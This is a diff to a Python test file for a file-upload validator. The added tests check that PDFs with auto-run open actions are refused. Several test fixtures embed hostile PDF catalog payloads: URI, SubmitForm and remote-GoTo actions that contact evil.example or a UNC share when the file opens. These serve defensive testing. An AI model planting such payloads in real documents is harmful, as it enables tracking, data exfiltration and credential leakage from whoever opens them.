@@ -203,6 +203,12 @@ def test_pdf_opening_at_a_page_is_accepted():
     assert check_upload(upload("cv.pdf", content)).kind == "pdf"
 
 
+def test_pdf_opening_with_a_goto_action_is_accepted():
+    """An /OpenAction that only goes to a page of the document itself runs nothing."""
+    content = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>", PAGES, PAGE)
+    assert check_upload(upload("cv.pdf", content)).kind == "pdf"
+
+
 def test_dangerous_names_inside_stream_data_are_not_mistaken_for_actions():
     """Compressed streams are random bytes; `/JS` may turn up by chance and must not refuse a scan."""
     data = b"\x93\x01/JS /JavaScript /Launch\x88\x00 stream\n\xfe"
@@ -417,6 +423,48 @@ HOSTILE: list = [
         "pdf_active_content",
         id="pdf-launch-action",
     ),
+    # Issue 11, item 10: an open action that reaches out when the file is opened.
+    pytest.param(
+        "cv.pdf",
+        lambda: raw_pdf(
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://evil.example/t) >> >>", PAGES, PAGE
+        ),
+        "pdf_active_content",
+        id="pdf-openaction-uri",
+    ),
+    pytest.param(
+        "cv.pdf",
+        lambda: raw_pdf(
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+            PAGES,
+            PAGE,
+            b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>",
+        ),
+        "pdf_active_content",
+        id="pdf-openaction-submitform-indirect",
+    ),
+    pytest.param(
+        "cv.pdf",
+        lambda: raw_pdf(
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit]"
+            b" /Next << /S /URI /URI (https://evil.example/) >> >> >>",
+            PAGES,
+            PAGE,
+        ),
+        "pdf_active_content",
+        id="pdf-openaction-goto-then-uri",
+    ),
+    pytest.param(
+        "cv.pdf",
+        lambda: raw_pdf(
+            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (\\\\evil.example\\share\\x.pdf)"
+            b" /D [0 /Fit] >> >>",
+            PAGES,
+            PAGE,
+        ),
+        "pdf_active_content",
+        id="pdf-openaction-remote-goto",
+    ),
     pytest.param(
         "cv.pdf",
         lambda: raw_pdf(
@@ -530,7 +578,7 @@ def test_every_message_is_japanese_then_english():
 
 def test_limits():
     assert MAX_UPLOAD_BYTES == 10 * 1024 * 1024
-    assert MAX_IMAGE_PIXELS == 40_000_000
+    assert MAX_IMAGE_PIXELS == 25_000_000  # a 6,000 x 4,000 photo; decoding one as RGBA takes 100 MB
     assert MAX_NAME_BYTES == 200
 
 
